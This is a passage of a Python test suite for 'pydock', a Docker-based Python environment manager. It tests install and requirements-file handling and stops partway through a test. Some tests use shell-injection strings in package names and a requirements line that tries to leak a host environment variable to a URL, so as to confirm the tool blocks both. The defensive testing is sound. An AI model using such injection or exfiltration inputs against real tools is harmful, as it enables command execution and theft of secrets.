"""What changes packages: install, uninstall, update, and what they make of requirements.txt, wheels and secrets."""
from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import re
import shutil
import ssl
import subprocess
import tarfile
import time
import unittest
from pathlib import Path
from typing import Any, Dict, Iterable, List
from unittest import mock

from support import (ENGINE, PYTHON, SECRET, STRANGER, Case, Index, SharedCase, as_user, docker_groups, engine, host_address, make_wheel, serve_git,
                     pydock)

def setuptools_project(folder: Path, answer: int = 42) -> Path:
    """A small project of setuptools, with a script; a build leaves `build/` and `*.egg-info` in its folder."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "setup.py").write_text("from setuptools import setup\nsetup(name='Tiny_Project', version='1.0', py_modules=['tiny'], "
                                     "extras_require={'more': ['iniconfig==2.0.0']}, entry_points={'console_scripts': ['tiny=tiny:main']})\n", encoding="utf-8")
    (folder / "tiny.py").write_text("def main():\n    print(%d)\n" % answer, encoding="utf-8")
    return folder


def content(folder: Path) -> Dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b"" for p in sorted(folder.rglob("*"))}


class PackageCase(Case):
    def image(self, name: str = "ds") -> str:
        return "%s-%s:latest" % (self.prefix, name)

    def state(self, name: str = "ds") -> Any:
        """What a command that changes nothing must leave as it was."""
        return content(self.folder(name)), self.tags(name), self.containers()

    def write(self, text: str, name: str = "ds") -> None:
        (self.folder(name) / "requirements.txt").write_text(text, encoding="utf-8")

    def lines(self, name: str = "ds") -> List[str]:
        return self.requirements(name).splitlines()

    def python(self, code: str, name: str = "ds") -> str:
        return self.ok("run", name, "python", "-c", code).strip()

    def index(self, folder: str = "packages", **options: Any) -> Index:
        address = host_address()
        if address is None:
            self.skipTest("no address of this host that containers reach and a server can listen on")
        index = Index(address, self.base / folder, **options)
        self.addCleanup(index.close)
        return index


class InstallTest(PackageCase):
    def test_what_is_installed_works_in_the_next_run_and_is_written_down(self) -> None:
        self.ok("create", "ds", PYTHON)
        result = self.run_pydock("install", "ds", "six==1.16.0", "tabulate[widechars]<0.10", "Iniconfig>=2,<3")
        self.assertEqual((result.status, result.out), (0, ""), result)
        self.assertIn("six 1.16.0", result.err.splitlines()[-1])
        self.assertIn("next: pydock shell ds", result.err.splitlines()[-1])
        lines = [re.sub("==[^ ]+", "", line) for line in self.lines()]
        self.assertEqual(lines, ["iniconfig  # iniconfig>=2,<3", "six", "tabulate[widechars]  # tabulate[widechars]<0.10", "wcwidth  # via tabulate"])
        self.assertIn("1  2", self.ok("run", "ds", "tabulate", input="1 2\n"))
        self.assert_agree("ds")
        self.assert_clean("ds")
        before = self.state()
        self.assertIn("nothing to do", self.run_pydock("install", "ds", "six").err)
        self.assertEqual(self.state(), before, "an install of what is there made a new state")

    def test_a_failed_install_changes_nothing(self) -> None:
        self.ok("create", "ds", PYTHON, "six==1.16.0")
        before = self.state()
        for words in (["no-such-package-of-pydock"], ["iniconfig", "six==0.0.99"], ["./nothing"], ["nothing.whl"], ["-r", "nothing.txt"], ["=="], [""]):
            with self.subTest(words=words):
                self.fails("install", "ds", *words)
                self.assertEqual(self.state(), before)
        self.assert_clean("ds")

    def test_packages_that_do_not_fit_are_refused(self) -> None:
        alpha = make_wheel(self.work, "alpha", requires=["six<1.17"])
        beta = make_wheel(self.work, "beta", requires=["six>=1.17"])
        self.ok("create", "ds", PYTHON, str(alpha), "six==1.16.0")
        before = self.state()
        self.fails("install", "ds", "six==1.17.0", says="are incompatible")
        self.fails("install", "ds", str(alpha), str(beta), says="cannot install")
        self.assertEqual(self.state(), before)
        self.assert_clean("ds")

    def test_what_a_person_wrote_keeps_its_place(self) -> None:
        self.ok("create", "ds", PYTHON)
        text = ("# my packages\n\n--prefer-binary\n\n# text\ntabulate==0.9.0  # pinned: 0.10 breaks us\n\n# only elsewhere\n"
                'colorama==0.4.6 ; sys_platform == "win32"\nsix==1.16.0; python_version >= "3"\n\n# the end')
        self.write(text)
        self.ok("build", "ds")
        self.assertEqual(self.requirements("ds"), text)
        self.ok("install", "ds", "iniconfig==2.0.0")
        self.assertIn("iniconfig==2.0.0", self.lines())
        self.assertEqual([line for line in self.lines() if line != "iniconfig==2.0.0"], text.splitlines())
        self.ok("install", "ds", "six==1.17.0")
        self.assertIn('six==1.17.0; python_version >= "3"', self.lines())
        self.ok("install", "ds", "six==1.16.0")
        self.ok("uninstall", "ds", "iniconfig")
        self.assertEqual(self.lines(), text.splitlines())
        self.assertEqual(self.listed()["ds"]["state"], "ready")

    def test_lines_added_by_hand_are_built_first_and_become_the_freeze(self) -> None:
        self.ok("create", "ds", PYTHON)
        self.write("# loose\nTabulate[widechars]>=0.8,<0.10\nsix\n")
        self.ok("install", "ds", "iniconfig==2.0.0")
        self.assertEqual(self.lines()[0], "# loose")
        self.assertEqual({line.split("==")[0] for line in self.lines()[1:]}, {"iniconfig", "tabulate[widechars]", "wcwidth", "six"})
        self.assertTrue(all("==" in line for line in self.lines()[1:]), self.lines())
        self.assert_agree("ds")

    def test_setuptools_counts_where_it_was_asked_for(self) -> None:
        self.ok("create", "ds", PYTHON, "six==1.16.0")
        self.assertEqual(self.requirements("ds"), "six==1.16.0\n")
        self.ok("install", "ds", "setuptools==68.2.2")
        self.ok("install", "ds", "iniconfig==2.0.0")
        self.assertEqual(self.requirements("ds"), "iniconfig==2.0.0\nsetuptools==68.2.2\nsix==1.16.0\n")
        self.ok("build", "--no-cache", "ds")
        self.assertEqual(self.python("import setuptools; print(setuptools.__version__)"), "68.2.2")
        self.ok("uninstall", "ds", "setuptools")
        self.assertEqual(self.requirements("ds"), "iniconfig==2.0.0\nsix==1.16.0\n")

    def test_arguments_after_two_dashes_are_the_installers(self) -> None:
        self.ok("create", "ds", PYTHON)
        self.ok("install", "ds", "tabulate[widechars]==0.9.0", "--", "--no-deps")
        self.assertEqual(self.requirements("ds"), "tabulate[widechars]==0.9.0\n")

    def test_options_of_pip_are_kept_or_need_nothing_or_are_refused(self) -> None:
        for version in ("1.0", "2.0rc1"):
            make_wheel(self.base / "packages", "alpha", version)
        index = self.index()
        links = "http://%s/simple/alpha/" % index.host
        trusted = index.host.split(":")[0]
        (self.work / "c.txt").write_text("iniconfig<2\n", encoding="utf-8")
        self.ok("create", "ds", PYTHON)
        for option, reason in (("--target", "packages always go into the environment"), ("--python-version=3.9", "that of its base image"), ("--proxy", "HTTPS_PROXY")):
            self.fails("install", "ds", "six", option, "x", status=2, says=reason)
        self.fails("install", "ds", "six", "--no-such-option", status=2, says="unknown option")
        for installer, strategy in (("pip", "eager"), ("uv", "only-if-needed")):
            self.ok("install", "ds", "--user", "--no-cache-dir", "-v", "--progress-bar", "off", "-c", "c.txt", "iniconfig", "--upgrade-strategy", strategy, "-U",
                    environ={"PYDOCK_INSTALLER": installer})
        self.assertIn("iniconfig==1.1.1  # iniconfig<2", self.lines())
        result = self.run_pydock("install", "ds", "alpha", "--no-deps", "-f", links, "--trusted-host", trusted, "--pre", "--", "--only-binary", "alpha")
        self.assertIn("--no-deps applies only this time", result.err, result)
        options = ["--pre", "--find-links " + links, "--trusted-host " + trusted, "--only-binary alpha"]
        self.assertEqual(self.lines(), [*options, "alpha==2.0rc1", "iniconfig==1.1.1  # iniconfig<2"])
        for installer in ("uv", "pip"):
            self.ok("build", "ds", environ={"PYDOCK_INSTALLER": installer})
            self.assert_agree("ds")
        self.write("--trusted-host %s\n--find-links %s\n--pre\nalpha\n" % (trusted, links))
        self.ok("build", "ds")
        self.assertEqual(self.python("import alpha; print(alpha.version)"), "2.0rc1", "uv reads no --pre of a file")
        (self.work / "r.txt").write_text("alpha==0.1  # in any version\nnothing-there\n", encoding="utf-8")
        self.fails("uninstall", "ds", "alpha", "--", "--target", "x", status=2, says="packages always go")
        self.fails("install", "ds", "alpha", "--", "--no-deps", "requests", status=2, says="'requests' is not an option", hint="packages go before --")
        self.fails("uninstall", "ds", "alpha", "--pre", status=2, says="takes package names")
        self.assertNotIn("from now on", self.run_pydock("uninstall", "ds", "-y", "-r", "r.txt", "--no-input").err)
        self.assertEqual(self.lines(), ["--trusted-host " + trusted, "--find-links " + links, "--pre"])
        self.assertIn("alpha is not installed in ds", self.run_pydock("uninstall", "ds", "-y", "-r", "r.txt").err)

    def test_pip_is_a_package_once_it_is_asked_for(self) -> None:
        self.ok("create", "ds", PYTHON, "six==1.16.0")
        self.ok("install", "ds", "pip>=24,<24.1")
        self.assertEqual(self.lines(), ["pip==24.0  # pip>=24,<24.1", "six==1.16.0"])
        self.ok("build", "ds")
        self.assertEqual(self.python("import pip; print(pip.__version__)"), "24.0")
        self.ok("install", "ds", "iniconfig==2.0.0")
        self.assertIn("pip==24.0  # pip>=24,<24.1", self.lines())
        self.assert_clean("ds")

    def test_options_may_stand_between_packages(self) -> None:
        make_wheel(self.base / "packages", "alpha", "1.0")
        make_wheel(self.base / "packages", "alpha", "2.0rc1")
        index = self.index()
        self.ok("create", "ds", PYTHON)
        self.ok("install", "ds", "six==1.16.0", "--extra-index-url", index.url, "alpha")
        self.assertIn("alpha==1.0", self.lines())
        self.ok("install", "ds", "alpha>1", "--pre", "iniconfig==2.0.0")
        self.assertIn("alpha==2.0rc1  # alpha>1", self.lines())
        self.assertIn("iniconfig==2.0.0", self.lines())

    def test_what_no_build_reads_is_not_copied(self) -> None:
        project = setuptools_project(self.work / "tiny")
        for name in (".git", ".venv", "node_modules", "data"):
            (project / name).mkdir()
            with open(project / name / "large", "wb") as file:
                file.truncate(3 << 30)
        (project / "MANIFEST.in").write_text("graft .\n", encoding="utf-8")
        self.ok("create", "ds", PYTHON)
        began = time.monotonic()
        self.ok("install", "ds", "./tiny")
        self.assertLess(time.monotonic() - began, 60)
        self.assertEqual(self.ok("run", "ds", "tiny").strip(), "42")

    def test_a_large_file_is_taken_along_and_what_a_link_leads_to_is_not(self) -> None:
        package = self.work / "tiny/tiny"
        package.mkdir(parents=True)
        (self.work / "secret.txt").write_text(SECRET, encoding="utf-8")
        (package / "__init__.py").touch()
        (package / "secret.txt").symlink_to(self.work / "secret.txt")
        with open(package / "large.bin", "wb") as file:
            file.truncate(17 << 20)
        (self.work / "tiny/setup.py").write_text("from setuptools import setup\nsetup(name='tiny', version='1', packages=['tiny'], package_data={'tiny': ['*.*']})\n", encoding="utf-8")
        self.ok("create", "ds", PYTHON, "./tiny")
        found = "import os, tiny; [print(e.name, e.stat(follow_symlinks=False).st_size) for e in os.scandir(os.path.dirname(tiny.__file__)) if e.name[0] != '_']"
        self.assertEqual(self.python(found).split(), ["large.bin", str(17 << 20)])

    def test_missing_git_or_compiler_is_told_with_the_remedy(self) -> None:
        self.ok("create", "ds", PYTHON)
        before = self.state()
        image = self.image()
        if "git" not in engine("run", "--rm", image, "sh", "-c", "command -v git || true"):
            self.fails("install", "ds", "git+https://host.invalid/some/thing.git", says="lacks git",
                       hint="pydock install --apt git ds git+https://host.invalid/some/thing.git")
        project = self.work / "ext"
        project.mkdir()
        (project / "setup.py").write_text("from setuptools import setup, Extension\nsetup(name='ext', version='1', ext_modules=[Extension('ext', ['ext.c'])])\n", encoding="utf-8")
        (project / "ext.c").write_text("int x;\n", encoding="utf-8")
        if "gcc" not in engine("run", "--rm", image, "sh", "-c", "command -v gcc || true"):
            self.fails("install", "ds", "./ext", says="compiler", hint="pydock install --apt build-essential ds ./ext")
        self.assertEqual(self.state(), before)

    def test_a_system_package_goes_into_the_dockerfile_and_the_image(self) -> None:
        self.ok("create", "ds", PYTHON)
        before = self.state()
        self.fails("install", "ds", "--apt", "no-such-package-of-debian", "six", says="cannot build ds")
        self.assertEqual(self.state(), before)
        self.ok("install", "ds", "--apt", "tree", "six==1.16.0")
        self.assertIn("\nRUN apt-get update && apt-get install -y --no-install-recommends tree && rm", (self.folder("ds") / "dockerfile").read_text(encoding="utf-8"))
        self.ok("run", "ds", "tree", "--version")
        self.ok("run", "ds", "python", "-c", "import six")
        self.assertIn("ds has tree", self.run_pydock("install", "ds", "--apt", "tree").err)
        self.assertEqual(self.listed()["ds"]["state"], "ready")

    def test_no_shell_ever_reads_a_requirement(self) -> None:
        (self.base / "packages").mkdir()
        index = self.index()
        self.ok("create", "ds", PYTHON)
        before = self.state()
        call = "python3 -c \"import urllib.request as u; u.urlopen('http://%s/pwned')\"" % index.host
        for word in ("six; " + call, "$(%s)" % call, "`%s`" % call, "six && " + call, "six | " + call, "six\n" + call, "six' ; %s; '" % call, "six[$(%s)]" % call,
                     "six @ $(%s)" % call, "\n", "six\0".replace("\0", "\x01")):
            for command in ("install", "uninstall", "update")[:3 if word[0] == "$" or "&" in word else 1]:
                with self.subTest(command=command, word=word):
                    self.fails(command, "ds", word)
        self.fails("install", "ds", "six", "--", "; " + call)
        self.fails("install", "ds", "six", "--index-url", "$(%s)" % call)
        self.assertEqual(index.seen, [])
        self.assertEqual(self.state(), before)
        self.assert_clean("ds")


class FileTest(PackageCase):
    """-r FILE, whatever the installer reads."""

    def test_requirements_with_their_includes_in_other_folders(self) -> None:
        for file, text in (("app/requirements.txt", "# app\n-r ../common/base.txt\nsix\n"), ("common/base.txt", "-c ../limits/c.txt\n--constraint=d.txt\ntabulate\n"),
                           ("limits/c.txt", "tabulate==0.8.10\n"), ("common/d.txt", "six==1.15.0\n")):
            (self.work / file).parent.mkdir(exist_ok=True)
            (self.work / file).write_text(text, encoding="utf-8")
        before = content(self.work)
        self.ok("create", "ds", PYTHON)
        self.ok("install", "ds", "-r", "app/requirements.txt", "iniconfig==2.0.0")
        self.assertEqual(self.requirements("ds"), "iniconfig==2.0.0\nsix==1.15.0\ntabulate==0.8.10\n")
        self.assertEqual(content(self.work), before)
        self.assert_agree("ds")

    def test_a_pipe(self) -> None:
        self.ok("create", "ds", PYTHON)
        self.ok("install", "ds", "-r", "/dev/stdin", input="six==1.15.0\n")
        self.assertEqual(self.requirements("ds"), "six==1.15.0\n")
        os.mkfifo(str(self.base / "pipe"))
        (self.work / "r.txt").symlink_to(self.base / "pipe")
        self.fails("install", "ds", "-r", "r.txt", says="r.txt is a symbolic link to %s" % (self.base / "pipe"))

    def test_an_index_in_the_file_is_kept(self) -> None:
        make_wheel(self.base / "packages", "alpha")
        index = self.index()
        (self.work / "r.txt").write_text("--extra-index-url %s\nalpha\nsix==1.16.0\n" % index.url, encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "r.txt")
        self.assertEqual(self.requirements("ds"), "--extra-index-url %s\nalpha==1.0\nsix==1.16.0\n" % index.url)

    def test_sources_that_warn_or_are_wrong(self) -> None:
        """What byte-compiling them says is nobody's business here, and ends nothing."""
        files = {"bad/warns.py": "assert (1, 'x')\n1 is 1\n'\\d'\n", "bad/wrong.py": "def (:\n", "bad/nul.py": "\0", "bad/bytes.py": "# coding: nonsense\n"}
        make_wheel(self.base / "packages", "alpha", files=files)
        (self.work / "r.txt").write_text("--extra-index-url %s\nalpha\n" % self.index().url, encoding="utf-8")
        done = [self.run_pydock("--verbose", "create", "ds", PYTHON, "-r", "r.txt", environ={"PYTHONWARNINGS": "error"}),
                self.run_pydock("install", "ds", str(make_wheel(self.work, "beta", files={"b" + path: text for path, text in files.items()})))]
        self.assertEqual([result.status for result in done], [0, 0], done)
        self.assertNotRegex("".join(result.err for result in done), r"Warning:|Error:|bad/\w+\.py")
        self.assertIn(".pyc", self.ok("run", "ds", "python", "-c", "import alpha, beta; print(alpha.__cached__, beta.__cached__)"))

    def test_a_file_as_people_write_it(self) -> None:
        """UTF-16, CRLF, continuations, quotes, options; and what is written of it."""
        make_wheel(self.base / "packages", "alpha", "1.0")
        make_wheel(self.base / "packages", "beta", "1.5")
        index = self.index()
        (self.work / "more files").mkdir()
        (self.work / "more files" / "r.txt").write_bytes(('--extra-index-url \\\r\n  %s\r\n--prefer-binary\r\nalpha==1.0\r\n'
                                                          '-c "c d.txt"  # limits\r\n' % index.url).encode("utf-16"))
        (self.work / "more files" / "c d.txt").write_text("beta<2\nsix<1\n", encoding="utf-8-sig")
        (self.work / "r.txt").write_text("-r 'more files/r.txt'\nbeta>=1 ; python_version > '3' # not this\n", encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "r.txt")
        self.assertEqual(self.lines(), ["--extra-index-url " + index.url, "--prefer-binary", "alpha==1.0", "beta==1.5; python_version > '3'  # beta>=1,<2"])
        (self.work / "thief.txt").write_text("alpha @ https://host.invalid/${PYDOCK_TEST_SECRET}/alpha.whl\n", encoding="utf-8")
        result = self.run_pydock("install", "ds", "-r", "thief.txt", environ={"PYDOCK_TEST_SECRET": "s3cr3t"})
        self.assertNotIn("s3cr3t", result.out + result.err, "a variable of this host reaches no file of others")
        self.assertIn("thief.txt uses ${PYDOCK_TEST_SECRET}, but files get no variables of this host", result.err)
        (self.work / "bad.txt").write_text("six\n\n--index-url\n", encoding="utf-8")
        self.fails("install", "ds", "-r", "bad.txt", says="line 3 of %s" % (self.work / "bad.txt"))

    def test_what_a_line_names_of_this_host_is_taken_along_or_named(self) -> None:
        wheel = make_wheel(self.work / "dist", "alpha", extras=["more"], requires=["beta; extra == 'more'"])
        beta = make_wheel(self.work / "dist", "beta")
        setuptools_project(self.work / "tiny")
        (self.work / "sub").mkdir()
        digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
        self.ok("create", "ds", PYTHON)
        before = self.state()

        def read(text: str, file: str = "r.txt") -> List[str]:
            (self.work / file).write_text(text, encoding="utf-8")
            return ["install", "ds", "-r", file]

        for text, says, hint in (
            ("alpha @ file:///croot/alpha_1/work\n", "no such file or folder: /croot/alpha_1/work", "conda run -n ENV pip list --format=freeze"), ("file:.\n", "%s is not a project" % self.work, ""),
            ("./none.whl\n", "no such file or folder: %s/none.whl" % self.work, ""), ("dist/%s --hash=sha256:%s\n" % (wheel.name, "0" * 64), "%s does not match its --hash" % wheel, ""),
        ):
            self.fails(*read(text), says=says, hint=hint)
        self.assertEqual(self.state(), before)
        self.ok(*read("dist/%s ; python_version < '3'\ndist/%s ; python_version > '3'\n./tiny[more]\n" % (wheel.name, beta.name), "sub/r.txt"))
        self.assertEqual(self.lines(), ["./wheels/%s ; python_version > '3'" % beta.name, "iniconfig==2.0.0  # via tiny-project",
                                        "./wheels/tiny_project-1.0-py3-none-any.whl[more]"])
        self.ok("build", "ds")
        self.ok("install", "ds", "six==1.16.0")
        self.assertEqual(self.lines()[0], "./wheels/%s ; python_version > '3'" % beta.name)
        self.ok("uninstall", "ds", "tiny-project", "iniconfig", "six", "beta")
        self.ok(*read("dist/%s[more] --hash=sha256:%s\ndist/%s\n" % (wheel.name, digest, beta.name)))
        self.assertIn("--require-hashes\n./wheels/%s[more] \\\n    --hash=sha256:%s\n" % (wheel.name, digest), self.requirements("ds"))
        self.ok("lock", "--check", "ds")

    def test_a_file_with_hashes_makes_a_locked_environment(self) -> None:
        hash_ = "sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254"
        (self.work / "r.txt").write_text("six==1.16.0 \\\n    --hash=%s\n" % hash_, encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "r.txt")
        self.assertEqual(self.requirements("ds"), "--require-hashes\nsix==1.16.0 \\\n    --hash=%s\n" % hash_)
        self.ok("install", "ds", "iniconfig==2.0.0")
        self.assertEqual([line.split(" ")[0] for line in self.lines() if line[0] != " "], ["--require-hashes", "iniconfig==2.0.0", "six==1.16.0"])
        self.ok("lock", "--check", "ds")
        (self.work / "r.txt").write_text("six==1.17.0 --hash=sha256:%s\n" % ("0" * 64), encoding="utf-8")
        before = self.state()
        self.fails("install", "ds", "-r", "r.txt")
        self.assertEqual(self.state(), before)

    def test_pyproject_toml_brings_the_project_s_dependencies(self) -> None:
        (self.work / "pyproject.toml").write_text('[project]\nname = "app"\nversion = "1"\ndependencies = ["six==1.16.0"]\n', encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "pyproject.toml")
        self.assertEqual(self.requirements("ds"), "six==1.16.0\n")
        self.assertEqual([p.name for p in self.work.iterdir()], ["pyproject.toml"])

    def test_requires_python_chooses_and_refuses_the_version(self) -> None:
        (self.work / "pyproject.toml").write_text('[project]\nname = "app"\nversion = "1"\nrequires-python = ">=3.12"\ndependencies = ["six<1.17"]\n'
                                                  '[project.optional-dependencies]\ncli = ["iniconfig==2.0.0"]\n', encoding="utf-8")
        self.fails("create", "ds", PYTHON, "-r", "pyproject.toml", says="needs Python >=3.12, not " + PYTHON, hint="pydock create ds 3.13 -r pyproject.toml")
        said = self.run_pydock("create", "ds", "-r", "pyproject.toml").err
        self.assertIn("pyproject.toml also has the extra cli\n", said)
        self.assertIn("created ds (Python 3.1", said)
        self.assertEqual(self.requirements("ds"), "six==1.16.0  # six<1.17\n")
        self.ok("install", "ds", "-r", "pyproject.toml[cli]")
        self.assertIn("iniconfig==2.0.0", self.lines())
        self.ok("create", "old", PYTHON)
        self.fails("install", "old", "-r", "pyproject.toml", says="needs Python >=3.12, but old has " + PYTHON)
        self.fails("install", "ds", "--extra", "cli", "six", status=2, says="need a project")

    def test_dynamic_dependencies_are_read_in_a_copy(self) -> None:
        (self.work / "pyproject.toml").write_text('[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "app"\nversion = "1"\n'
            'dynamic = ["dependencies"]\n[tool.setuptools]\npy-modules = []\n[tool.setuptools.dynamic]\ndependencies = {file = ["needs.txt"]}\n', encoding="utf-8")
        (self.work / "needs.txt").write_text("six==1.16.0\n", encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "pyproject.toml")
        self.assertEqual(self.requirements("ds"), "six==1.16.0\n")
        self.assertEqual(sorted(p.name for p in self.work.iterdir()), ["needs.txt", "pyproject.toml"])

    def test_toml_is_read_in_a_container_where_this_python_cannot(self) -> None:
        with mock.patch.dict(os.environ, self.environ):
            session, file = pydock.Session(pydock.global_scope()), self.work / "p.toml"
            with mock.patch("importlib.import_module", side_effect=ImportError):
                file.write_text('a = "ä"\n[b]\nc = 1\n', encoding="utf-8")
                self.assertEqual(pydock.read_toml(session, session.new_env("x"), str(file)), {"a": "ä", "b": {"c": 1}})
                file.write_text("a = [", encoding="utf-8")
                with self.assertRaisesRegex(pydock.PydockError, "cannot read .*p.toml: .*at "):
                    pydock.read_toml(session, session.new_env("x"), str(file))

    def test_files_of_other_tools_get_the_command_that_helps(self) -> None:
        self.ok("create", "ds", PYTHON, "--no-build")
        for name, what in (("poetry.lock", "poetry export"), ("Pipfile", "pipenv requirements"), ("Pipfile.lock", "pipenv"), ("environment.yml", "conda run"),
                           ("setup.py", "pydock install ds ./"), ("setup.cfg", "pydock install ds ./"), ("requirements-dev.txt", "pydock install ds -r requirements-dev.txt")):
            (self.work / name).write_text("", encoding="utf-8")
            with self.subTest(name):
                self.fails("install", "ds", name, hint=what)
                if name[-4:] != ".txt":
                    self.fails("install", "ds", "-r", name, hint=what)
        self.fails("create", "x", PYTHON, "-r", "poetry.lock", hint="then: pydock create x %s -r requirements.txt" % PYTHON)
        self.fails("create", "x", PYTHON, "-r", "setup.py", hint="the project itself: pydock create x %s ./" % PYTHON)
        self.fails("create", "x", "3.12", "requirements.txt", says="'requirements.txt' is a file, not a package", hint="pydock create x 3.12 -r requirements.txt")

    def two_indexes(self) -> List[Dict[str, str]]:
        """alpha is at the one; beta, also of a later version, at the other."""
        made = []
        for name, folder in (("alpha", "packages"), ("beta", "other")):
            make_wheel(self.base / folder, "beta", "2.0")
            wheel, index = make_wheel(self.base / folder, name), self.index(folder)
            made.append({"name": name, "index": index.url, "url": "http://%s/files/%s" % (index.host, wheel.name), "wheel": wheel.name,
                         "hash": hashlib.sha256(wheel.read_bytes()).hexdigest()})
        self.environ["PIP_TRUSTED_HOST"] = index.host.split(":")[0]
        return made

    def test_what_uv_has_locked(self) -> None:
        """A workspace of which one member needs another one, and packages from two indexes."""
        package = '[project]\nname = "%s"\nversion = "1"\nrequires-python = ">=3.9"\ndependencies = %s\n'
        workspace = '[project.optional-dependencies]\nx = []\n[tool.uv.sources]\nlib = { workspace = true }\n[tool.uv.workspace]\nmembers = ["packages/*"]\n'
        (self.work / "pyproject.toml").write_text(package % ("app", ["alpha", "lib"]) + workspace, encoding="utf-8")
        lib = self.work / "packages/lib"
        lib.mkdir(parents=True)
        (lib / "pyproject.toml").write_text(package % ("lib", ["beta"]) + '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n', encoding="utf-8")
        (lib / "lib.py").write_text("import beta\n", encoding="utf-8")
        text = 'version = 1\nrevision = 3\nrequires-python = ">=3.9"\n[manifest]\nmembers = ["app", "lib"]\n'
        made = self.two_indexes()
        for one in made:
            text += '[[package]]\nname = "%(name)s"\nversion = "1.0"\nsource = { registry = "%(index)s" }\nwheels = [{ url = "%(url)s", hash = "sha256:%(hash)s" }]\n' % one
        for name, source, needs, wants in (("app", 'virtual = "."', "alpha lib", '{ name = "alpha" }, { name = "lib", editable = "packages/lib" }'),
                                           ("lib", 'editable = "packages/lib"', "beta", '{ name = "beta" }')):
            text += '[[package]]\nname = "%s"\nversion = "1"\nsource = { %s }\ndependencies = [%s]\n[package.metadata]\nrequires-dist = [%s]\n' % (
                name, source, ", ".join('{ name = "%s" }' % need for need in needs.split()), wants)
        (self.work / "uv.lock").write_text(text, encoding="utf-8")
        result = self.run_pydock("create", "ds", PYTHON, "-r", "uv.lock")
        self.assertIn("pyproject.toml also has the extra x\n", result.err, result)
        self.assertEqual(self.lines()[0], "--require-hashes")
        for one in made:
            self.assertIn("--extra-index-url " + one["index"], self.lines())
        self.assertEqual(self.python("import alpha, beta, lib; print(alpha.version, beta.version)"), "1.0 1.0")
        self.ok("build", "ds")
        self.assertEqual(self.python("import alpha, beta, lib; print(alpha.version, beta.version)"), "1.0 1.0")

    def test_pylock_toml(self) -> None:
        text = 'lock-version = "1.0"\ncreated-by = "test"\n'
        made = self.two_indexes()
        for one in made:
            text += '[[packages]]\nname = "%(name)s"\nversion = "1.0"\nindex = "%(index)s"\nwheels = [{name = "%(wheel)s", url = "%(url)s", hashes = {sha256 = "%(hash)s"}}]\n' % one
        (self.work / "pylock.toml").write_text(text, encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "pylock.toml")
        self.assertEqual(self.python("import alpha, beta; print(alpha.version, beta.version)"), "1.0 1.0")
        self.assertEqual(self.lines(), [*sorted("--extra-index-url " + one["index"] for one in made), "alpha==1.0", "beta==1.0"])
        self.ok("build", "ds")
        self.assertEqual(self.python("import alpha, beta; print(alpha.version, beta.version)"), "1.0 1.0")


class LocalTest(PackageCase):
    """Wheels and folders of this host."""

    def test_a_wheel_is_kept_and_the_environment_can_be_built_elsewhere(self) -> None:
        project = self.base / "project"
        project.mkdir()
        wheel = make_wheel(self.work, "alpha", requires=["six==1.16.0"])
        self.ok("--local", "create", "dev", PYTHON, cwd=project)
        self.ok("install", "dev", str(wheel), cwd=project)
        folder = project / ".pydock/envs/dev"
        self.assertEqual((folder / "requirements.txt").read_text(encoding="utf-8"), "./wheels/%s\nsix==1.16.0  # via alpha\n" % wheel.name)
        self.assertEqual([p.name for p in (folder / "wheels").iterdir()], [wheel.name])
        self.assertEqual((folder / "wheels" / wheel.name).stat().st_uid, os.getuid())
        elsewhere = self.base / "elsewhere"
        shutil.copytree(str(project), str(elsewhere))
        shutil.rmtree(str(project))
        wheel.unlink()
        self.ok("build", "--no-cache", "dev", cwd=elsewhere)
        self.assertEqual(self.ok("run", "dev", "python", "-c", "import alpha, six; print(alpha.version)", cwd=elsewhere), "1.0\n")
        self.ok("uninstall", "dev", "alpha", cwd=elsewhere)
        self.assertEqual([p.name for p in (elsewhere / ".pydock/envs/dev").iterdir() if p.name == "wheels" and list(p.iterdir())], [])

    def test_a_gitignore_that_leaves_out_what_is_kept_is_said(self) -> None:
        wheel = make_wheel(self.work, "alpha")
        (self.work / ".gitignore").write_text("build/\nwheels/\n", encoding="utf-8")
        said = self.run_pydock("--local", "create", "dev", PYTHON, str(wheel)).err
        self.assertIn("git ignores " + wheel.name, said)
        remedy = said.split("(hint: ")[1].split(")\n")[0]
        subprocess.run(["/bin/sh", "-c", remedy], cwd=str(self.work), check=True)
        self.assertEqual((self.work / ".gitignore").read_text(encoding="utf-8"), "build/\nwheels/\n!/.pydock/envs/*/wheels/\n!/.pydock/envs/*/wheels/*\n")
        self.assertNotIn("git ignores", self.run_pydock("install", "dev", str(wheel)).err)

    def test_a_folder_is_built_and_left_as_it_was(self) -> None:
        project = setuptools_project(self.work / "tiny")
        before = content(project)
        self.ok("create", "ds", PYTHON)
        self.ok("install", "ds", "./tiny")
        self.assertEqual(content(project), before)
        self.assertEqual(self.ok("run", "ds", "tiny"), "42\n")
        self.assertEqual(len(self.lines()), 1)
        self.assertRegex(self.lines()[0], r"(?i)^\./wheels/tiny_project-1\.0-py3-none-any\.whl$")
        self.assertTrue((self.folder("ds") / self.lines()[0]).exists())
        setuptools_project(project, answer=43)
        self.ok("install", "ds", "./tiny")
        self.assertEqual(self.ok("run", "ds", "tiny"), "43\n", "a changed folder of the same version had no effect")
        project.rename(self.work / "moved")
        self.ok("build", "--no-cache", "ds")
        self.assertEqual(self.ok("run", "ds", "tiny"), "43\n")
        (self.work / "moved").rename(project)
        self.ok("install", "ds", "./tiny[more]")
        self.assertIn("iniconfig==2.0.0  # via tiny-project", self.lines())
        self.ok("uninstall", "ds", "tiny-project", "iniconfig")
        self.assertEqual(self.requirements("ds"), "")
        self.assert_clean("ds")

    def test_a_hidden_folder(self) -> None:
        setuptools_project(self.work / ".tiny")
        self.ok("create", "ds", PYTHON, "./.tiny")
        self.assertEqual(self.ok("run", "ds", "tiny"), "42\n")

    def test_the_current_folder_by_its_dot_and_folders_with_odd_names(self) -> None:
